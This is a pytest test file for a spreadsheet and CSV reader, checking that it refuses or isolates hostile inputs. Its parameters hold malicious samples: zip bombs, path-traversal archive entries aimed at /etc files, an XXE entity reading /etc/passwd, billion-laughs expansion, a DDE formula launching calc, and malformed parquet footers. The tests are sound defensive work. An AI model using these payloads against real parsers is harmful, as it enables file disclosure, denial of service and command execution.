"""Fault 20: files that were made to harm. Each is refused with a message that says why, or isolated; this process stays up."""

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import psutil
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from spice_core.adapters.calamine.reader_process import ReaderLimits, ReaderProcess
from spice_core.adapters.calamine.source_files import CalamineSourceFiles
from spice_core.adapters.duckdb.grid_sheets import DuckDBGridSheets
from spice_core.bootstrap.file_readers import source_files_of
from spice_core.domain.sheets import CellRange, FoundTable, HeaderCell, TableMode
from spice_core.errors import UnreadableFile
from spice_core.ports.source_files import SourceFiles, SourceSheets
from spice_core.settings import load_settings
from tests.corpus.hostile import workbooks as made

SAMPLES = Path(__file__).parent.parent / "contracts/data/workbooks"
MEGABYTE = 1_000_000


@pytest.fixture(scope="module")
def files() -> SourceFiles:
    return source_files_of(load_settings(workbook_unpacked_bytes=200 * MEGABYTE, workbook_memory_bytes=300 * MEGABYTE))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    found = tmp_path / "work"
    found.mkdir()
    return found


@contextmanager
def opened(files: SourceFiles, folder: Path, data: bytes) -> Iterator[SourceSheets]:
    path = folder.parent / "raw"
    path.write_bytes(data)
    with files.open(path, folder=folder) as sheets:
        yield sheets


def read_all(files: SourceFiles, folder: Path, data: bytes) -> None:
    path = folder.parent / "raw"
    path.write_bytes(data)
    read_all_of(files, folder, path)


def read_all_of(files: SourceFiles, folder: Path, path: Path) -> None:
    with files.open(path, folder=folder) as sheets:
        for name in sheets.names:
            sheets.sheet(name)
            sheets.read_table(name, None, into=folder / "table.parquet")


def refusal(files: SourceFiles, folder: Path, data: bytes) -> str:
    """The message with which a file is refused; nothing is left in the folder."""
    with pytest.raises(UnreadableFile) as error:
        read_all(files, folder, data)
    assert {path.name for path in folder.parent.iterdir()} == {"raw", "work"}
    return error.value.message


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (lambda: made.bomb(25 * MEGABYTE), "unpacks to"),
        (lambda: made.archive(made.parts() | {f"xl/media/{n}": bytes(MEGABYTE) for n in range(201)}), "at most 200000000"),
        (lambda: made.many_entries(10_001), "no workbook has over"),
        (lambda: made.archive(made.parts() | {"../../etc/cron.d/x": b""}), "outside of itself"),
        (lambda: made.archive(made.parts() | {"/etc/passwd": b""}), "outside of itself"),
        (lambda: made.archive(made.parts() | {"xl\\..\\..\\x": b""}), "outside of itself"),
        (lambda: made.archive(made.parts() | {"C:/x": b""}), "outside of itself"),
        (lambda: made.archive(made.parts(), links={"xl/sharedStrings.xml": "/etc/passwd"}), "a link"),
        (lambda: made.with_flag(made.archive(made.parts()), 1), "encrypted"),
        (lambda: made.archive({"a.csv": b"a,b\n1,2\n"}), "zip archive"),
        (lambda: made.archive({"a.zip": made.archive(made.parts())}), "zip archive"),
        (lambda: made.archive({"[Content_Types].xml": b"", "word/document.xml": b""}), "Word document"),
        (lambda: made.archive(made.parts())[:-40], "damaged or cut off"),
        (lambda: b"PK\x03\x04" + bytes(1000), "damaged or cut off"),
    ],
)
def test_fault_20_a_container_that_harms_is_refused_before_it_is_unpacked(
    files: SourceFiles, folder: Path, data: Callable[[], bytes], words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No process is started for it."""
    monkeypatch.setattr(subprocess, "Popen", None)
    assert words in refusal(files, folder, data())


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (lambda: made.lying_bomb(15 * MEGABYTE), "damaged|not what the archive says"),
        (
            lambda: made.archive(
                made.parts(book='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + made.BOOK.replace('"s"', '"&e;"'))
            ),
            "declares a document type",
        ),
        (
            lambda: made.archive(
                made.parts(
                    sheet=made.sheet_xml(
                        '<row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row>',
                        before=f'<!--{" " * 3 * MEGABYTE}--><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "{"&a;" * 50}">]>',
                    )
                )
            ),
            "declares a document type",
        ),
        (lambda: made.archive(made.parts() | {made.SHEET: made.sheet_xml("").encode("utf-16")}), "not in UTF-8"),
        (
            lambda: made.archive(made.parts(sheet=made.sheet_xml('<row r="1"><c r="EQXC1"><v>1</v></c></row>'))),
            "columns|damaged",
        ),
        (
            lambda: made.archive(
                made.parts(
                    sheet=made.sheet_xml(
                        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                    )
                )
            ),
            "memory|damaged",
        ),
        (lambda: made.archive(made.parts(sheet=made.sheet_xml(""))), "no visible sheet"),
    ],
)
def test_fault_20_a_workbook_that_harms_is_refused_by_its_reader(
    files: SourceFiles, folder: Path, data: Callable[[], bytes], words: str
) -> None:
    message = refusal(files, folder, data())
    assert any(word in message for word in words.split("|")), message


@pytest.mark.parametrize("name", ["password.xlsx", "password.xls", "password.xlsb", "password.ods"])
def test_fault_20_a_workbook_with_a_password_is_refused(files: SourceFiles, folder: Path, name: str) -> None:
    assert "password" in refusal(files, folder, (SAMPLES / name).read_bytes())


def test_fault_20_formulas_are_never_read(files: SourceFiles, folder: Path) -> None:
    cells = (
        '<row r="1"><c r="A1" t="str"><f>HYPERLINK("http://x/"&amp;A2)</f><v>shown</v></c>'
        '<c r="B1"><f>cmd|\' /C calc\'!A0</f></c><c r="C1"><f>[1]x!A1</f><v>4</v></c></row>'
    )
    with opened(files, folder, made.archive(made.parts(sheet=made.sheet_xml(cells)))) as sheets:
        assert sheets.sheet("s").head == [("shown", None, "4")]


@pytest.mark.parametrize("seeds", [200, pytest.param(2000, marks=[pytest.mark.long, pytest.mark.timeout(1800)])])
def test_fault_20_damaged_workbooks_are_refused_or_read_and_the_reader_breaks_alone(tmp_path: Path, seeds: int) -> None:
    """Hundreds of seeds over four formats: whatever the damage, the process ends, and within its bounds."""
    small = tmp_path / "small.xlsx"
    small.write_bytes(made.archive(made.parts()))
    samples = [str(small), *(str(SAMPLES / name) for name in ("base.xls", "base.ods", "base.xlsb"))]
    command = [sys.executable, "-m", "tests.faults.fuzzed_workbooks", "0", str(seeds), str(tmp_path), *samples]
    done = subprocess.run(command, capture_output=True, text=True, timeout=1.4 * seeds, check=True)
    found = json.loads(done.stdout)
    assert sum(found.values()) == seeds
    assert found["read"] > 5
    assert found["refused"] > 50
    assert not {"ended with -9", "ended with -24"} & {*found}  # none ran out of time


def stub(program: str, **limits: int) -> CalamineSourceFiles:
    bounds = ReaderLimits(**limits)
    return CalamineSourceFiles(
        sheets_of=lambda grids, folder: DuckDBGridSheets(grids, memory="50MB", scratch=folder),
        limits=bounds,
        process=ReaderProcess(limits=bounds, command=(sys.executable, "-c", program)),
    )


def is_gone(process: int) -> bool:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if not psutil.pid_exists(process) or psutil.Process(process).status() == psutil.STATUS_ZOMBIE:
            return True
        time.sleep(0.02)
    return False


def test_fault_20_a_reader_that_hangs_is_ended_with_all_that_it_started(folder: Path) -> None:
    pids = folder / "pids"
    program = (
        "import json, os, signal, subprocess, sys, time; json.load(sys.stdin); signal.signal(signal.SIGTERM, signal.SIG_IGN);"
        "child = subprocess.Popen(['sleep', '600']);"
        f"open({str(pids)!r}, 'w').write(f'{{os.getpid()}} {{child.pid}}'); time.sleep(600)"
    )
    with (
        pytest.raises(UnreadableFile, match="over 3 seconds"),
        opened(stub(program, seconds=3), folder, made.archive(made.parts())),
    ):
        pass
    started = [int(pid) for pid in pids.read_text().split()]
    assert len(started) == 2
    assert all(is_gone(pid) for pid in started)


def test_fault_20_a_reader_that_eats_memory_is_ended_by_its_own_bound(folder: Path) -> None:
    program = (
        "import json, sys; from spice_core.adapters.calamine import read_workbook as r; asked = json.load(sys.stdin);"
        "r._bound(memory_bytes=asked['memory_bytes'], cpu_seconds=asked['cpu_seconds'])\n"
        "try:\n    held = [bytes(1 << 20) for _ in range(3000)]\n"
        "except MemoryError:\n    sys.exit(r.OUT_OF_MEMORY)\n"
        "print('{}')"
    )
    reader = stub(program, memory_bytes=100 * MEGABYTE)
    with (
        pytest.raises(UnreadableFile, match="over 100000000 bytes of memory"),
        opened(reader, folder, made.archive(made.parts())),
    ):
        pass


def test_fault_20_a_reader_that_works_without_end_is_ended_by_the_bound_of_its_time(folder: Path) -> None:
    program = (
        "import json, sys; from spice_core.adapters.calamine import read_workbook as r; asked = json.load(sys.stdin);"
        "r._bound(memory_bytes=asked['memory_bytes'], cpu_seconds=1)\nwhile True: pass"
    )
    with pytest.raises(UnreadableFile, match="seconds"), opened(stub(program), folder, made.archive(made.parts())):
        pass


@pytest.mark.parametrize(
    "program", ["import os; os.abort()", "raise SystemExit(1)", "import os, signal; os.kill(os.getpid(), 11)"]
)
def test_fault_20_a_reader_that_breaks_is_told_as_a_refusal(folder: Path, program: str) -> None:
    with pytest.raises(UnreadableFile, match="workbook"), opened(stub(program), folder, made.archive(made.parts())):
        pass


def test_fault_20_the_reader_reads_without_pandas_which_takes_half_a_second_to_load(folder: Path) -> None:
    told = folder / "told"
    program = (
        "import sys; from spice_core.adapters.calamine import read_workbook as r; code = r.main();"
        f"open({str(told)!r}, 'w').write(str(sys.modules.get('pandas'))); sys.exit(code)"
    )
    with opened(stub(program), folder, made.archive(made.parts())) as sheets:
        assert sheets.names
    assert told.read_text() == "None"


def test_fault_20_the_reader_sees_no_secrets_of_this_process(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "hidden-hidden-hidden")
    told = folder / "told"
    program = f"import os; open({str(told)!r}, 'w').write(repr(dict(os.environ))); raise SystemExit(1)"
    with pytest.raises(UnreadableFile), opened(stub(program), folder, made.archive(made.parts())):
        pass
    assert "hidden" not in told.read_text()


def long_line(path: Path, *, before: bytes) -> Path:
    piece = b"0123456789abcdef" * (1 << 16)
    with path.open("wb") as file:
        file.write(before)
        for _ in range(300):
            file.write(piece)
    return path


@pytest.mark.parametrize(("before", "words"), [(b"", "Line 1 has over"), (b"a,b\n1,2\n", "Line 3 is over")])
def test_fault_20_a_line_of_three_hundred_megabytes_is_refused(
    files: SourceFiles, folder: Path, before: bytes, words: str
) -> None:
    path = long_line(folder.parent / "raw", before=before)
    held = psutil.Process().memory_info().rss
    with pytest.raises(UnreadableFile, match=words):
        read_all_of(files, folder, path)
    assert psutil.Process().memory_info().rss - held < 100 * MEGABYTE


def test_fault_20_a_line_that_is_too_long_is_rejected_and_the_others_are_read(files: SourceFiles, folder: Path) -> None:
    data = b"a,b\n1,2\n" + b"x" * 3 * MEGABYTE + b"\n3,4\n"
    with opened(files, folder, data) as sheets:
        read = sheets.read_table("", None, into=folder / "t.parquet").table
    assert (read.row_count, read.reject_count) == (2, 1)
    assert (read.rejects[0].line, read.rejects[0].reason) == (3, "a line that is too long")


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"a,b\n1,\0\n", "NUL"),
        (b"a,b\n" + b"1,2\n" * 400_000 + b"3,\0\n", "Line 400002 holds a NUL"),
        (",".join(f"c{n}" for n in range(100_000)).encode() + b"\n1,2\n", "columns|characters"),
        (",".join("c" for _ in range(1500)).encode() + b"\n" + b",".join([b"1"] * 1500), "at most 1000"),
        ("a,b\n\u00e9,\u00fc\n\u00df,\u00f6\n\u00e4,\u00e8\n".encode() + b"caf\xe9,1\n", "Line 5"),
        (b"\xff\xfea\0,\0b\0\n\0\x00\xd8\n\0", "utf-16"),
        (b"\xff\xd8\xff\xe0", "image"),
    ],
)
def test_fault_20_a_text_that_is_none_is_refused_with_its_line(files: SourceFiles, folder: Path, data: bytes, words: str) -> None:
    message = refusal(files, folder, data)
    assert any(word in message for word in words.split("|")), message


def test_fault_20_a_link_is_not_followed(files: SourceFiles, folder: Path) -> None:
    link = folder.parent / "raw"
    link.symlink_to("/etc/passwd")
    with pytest.raises(UnreadableFile, match="link"), files.open(link, folder=folder):
        pass
    os.mkfifo(folder.parent / "pipe")
    with pytest.raises(UnreadableFile, match="plain file"), files.open(folder.parent / "pipe", folder=folder):
        pass


def test_fault_20_a_box_that_lies_outside_of_the_sheet_reads_nothing(files: SourceFiles, folder: Path) -> None:
    for data in (b"a,b\n1,2\n", made.archive(made.parts())):
        with opened(files, folder, data) as sheets:
            for top, left in ((0, 5000), (900_000, 0), (900_000, 16_000)):
                found = FoundTable(
                    TableMode.TABLE, CellRange(top, left, top + 10, left), 1, [HeaderCell(("x",), left)], 1.0, "said"
                )
                try:
                    read = sheets.read_table(sheets.names[0], found, into=folder / "t.parquet")
                except UnreadableFile as error:
                    assert "columns" in error.message  # noqa: PT017 - both ends are right
                else:
                    assert read.table.row_count == 0


READ = """
import sys
from pathlib import Path
from spice_core.bootstrap.file_readers import source_files_of
from spice_core.errors import UnreadableFile
from spice_core.settings import load_settings
files, folder = source_files_of(load_settings()), Path(sys.argv[1])
for path in sys.argv[2:]:
    try:
        with files.open(Path(path), folder=folder) as sheets:
            sheets.read_table("", None, into=folder / "t.parquet")
        print("read")
    except UnreadableFile as error:
        print("refused", error.message.replace(chr(10), " "))
"""


@pytest.mark.parametrize("seeds", [60, pytest.param(2000, marks=[pytest.mark.long, pytest.mark.timeout(1800)])])
def test_fault_20_parquet_with_absurd_metadata_is_refused(folder: Path, tmp_path: Path, seeds: int) -> None:
    """Footers that claim too much, and many seeds of damage: the process that reads them lives on to the last one."""
    good = tmp_path / "good"
    columns = {"n": list(range(300)), "s": [f"v{n % 5}" for n in range(300)], "l": [[n, {"k": n}["k"]] for n in range(300)]}
    pq.write_table(pa.table(columns), good)
    data = good.read_bytes()
    length = int.from_bytes(data[-8:-4], "little")
    made_bad = [
        data[:-8] + (0x7FFFFFFF).to_bytes(4, "little") + b"PAR1",
        data[:-8] + (1).to_bytes(4, "little") + b"PAR1",
        b"PAR1" + b"\xff" * 4000 + (4000).to_bytes(4, "little") + b"PAR1",
        b"PAR1" + b"\x15\x02\x19\xfc" + b"\xff" * 9 + bytes(30) + (43).to_bytes(4, "little") + b"PAR1",
        b"PAR1" + b"\x1c" * 200_000 + (200_000).to_bytes(4, "little") + b"PAR1",
    ]
    from tests.faults.fuzzed_workbooks import damaged  # noqa: PLC0415 - it imports what only its own process needs

    body, footer = data[4 : -8 - length], data[-8 - length : -8]
    for seed in range(seeds):
        footer = damaged(data[-8 - length : -8], seed)
        made_bad.append(
            b"PAR1" + (damaged(body, seed) if seed % 2 else body) + footer + len(footer).to_bytes(4, "little") + b"PAR1"
        )
    paths = []
    for number, content in enumerate(made_bad):
        paths.append(tmp_path / f"bad-{number}")
        paths[-1].write_bytes(content)
    done = subprocess.run(
        [sys.executable, "-c", READ, str(folder), *map(str, paths), str(good)],
        capture_output=True,
        text=True,
        timeout=max(250, seeds),
        check=False,
    )
    lines = done.stdout.splitlines()
    assert (done.returncode, len(lines)) == (0, len(paths) + 1), done.stderr[-2000:]
    assert all(line.startswith("refused") for line in lines[:5])
    assert lines[-1] == "read"
